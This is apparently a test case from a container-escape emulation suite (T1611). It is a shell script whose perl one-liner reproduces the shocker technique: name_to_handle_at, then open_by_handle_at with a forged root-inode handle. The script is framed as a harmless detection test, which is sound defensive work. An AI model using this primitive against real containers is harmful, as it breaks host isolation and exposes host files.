#!/bin/sh
# case: T1611-open-by-handle-perl
# technique: Escape: open_by_handle_at and name_to_handle_at
# source: shocker.c; CDK cap-dac-read-search
# needs: perl
# expect: escape file
# where: container
# image: debian
# caps: none
# seen: -
# harmless: own or decoy files, own child processes and loopback only; undoes itself. Exit 0 done, 77 cannot run here.
set -u
need() { for t in "$@"; do command -v "$t" >/dev/null 2>&1 || { echo "SKIP: $t missing"; exit 77; }; done; }
need perl
[ "$(uname -m)" = x86_64 ] || exit 77
perl -e '$p="/etc/hostname";$h=pack("II",8,1).pack("Q",2);$m="\0"x8;syscall(303,-100,$p,$h,$m,0);open D,"<","/etc/hostname";syscall(304,fileno(D),$h,0)'; true
exit 0
